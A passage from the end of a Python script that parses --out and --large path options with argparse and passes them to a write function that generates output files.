    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=OUT)
    parser.add_argument("--large", type=Path, default=None, help="also write the giants here")
    args = parser.parse_args()
    write(args.out, args.large)


if __name__ == "__main__":
    main()
